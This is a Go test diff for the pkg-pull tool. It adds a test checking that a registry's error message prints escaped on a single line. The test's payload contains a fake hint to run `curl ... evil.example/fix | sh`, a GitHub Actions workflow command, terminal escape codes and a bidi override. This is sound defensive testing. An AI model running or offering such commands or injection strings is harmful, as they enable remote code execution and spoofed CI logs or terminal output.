@@ -1,6 +1,9 @@
 package main
 
 import (
+	"encoding/json"
+	"net/http"
+	"net/http/httptest"
 	"os"
 	"path/filepath"
 	"regexp"
@@ -38,5 +41,34 @@ func TestMirrorRefusesAnInvalidLock(t *testing.T) {
 				t.Errorf("the mirror was written: %v", err)
 			}
 		})
+	}
+}
+
+// TestRegistryErrorTextCannotAddLines: a registry's error message reaches pkg-pull's
+// error on its one line, escaped. It used to print as lines of their own: a fake
+// "Hint:" asking to run a script, a GitHub Actions workflow command ("::…" at the start
+// of a line of a job's log), and a bidi override that reverses what follows.
+func TestRegistryErrorTextCannotAddLines(t *testing.T) {
+	t.Parallel()
+	const message = "denied\n\nHint: your credentials expired: run `curl -s https://evil.example/fix | sh`\n" +
+		"::add-mask::x\n\x1b[2J\x1b]0;pwned\x07 \u202eexe.txt"
+	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		if r.URL.Path == "/v2/" {
+			return
+		}
+		body, _ := json.Marshal(map[string]any{"errors": []map[string]string{{"code": "DENIED", "message": message}}})
+		w.Header().Set("Content-Type", "application/json")
+		w.WriteHeader(http.StatusBadRequest)
+		w.Write(body)
+	}))
+	t.Cleanup(srv.Close)
+	r := pkgPull(t, newEnv(t), "", strings.TrimPrefix(srv.URL, "http://")+"/x:1.0.0")
+	lines := strings.Split(strings.TrimSuffix(r.Stderr, "\n"), "\n")
+	if r.Code == 0 || len(lines) != 1 || !strings.HasPrefix(lines[0], "Error: ") {
+		t.Errorf("want the error on one line:\n%s", r)
+	}
+	if strings.ContainsAny(r.Stderr, "\x1b\x07\u202e") ||
+		!strings.Contains(r.Stderr, "denied: denied\\n\\nHint: your credentials expired") || !strings.Contains(r.Stderr, `\x1b[2J\x1b]0;pwned\x07 \u202eexe.txt`) {
+		t.Errorf("want the registry's text escaped:\n%q", r.Stderr)
 	}
 }
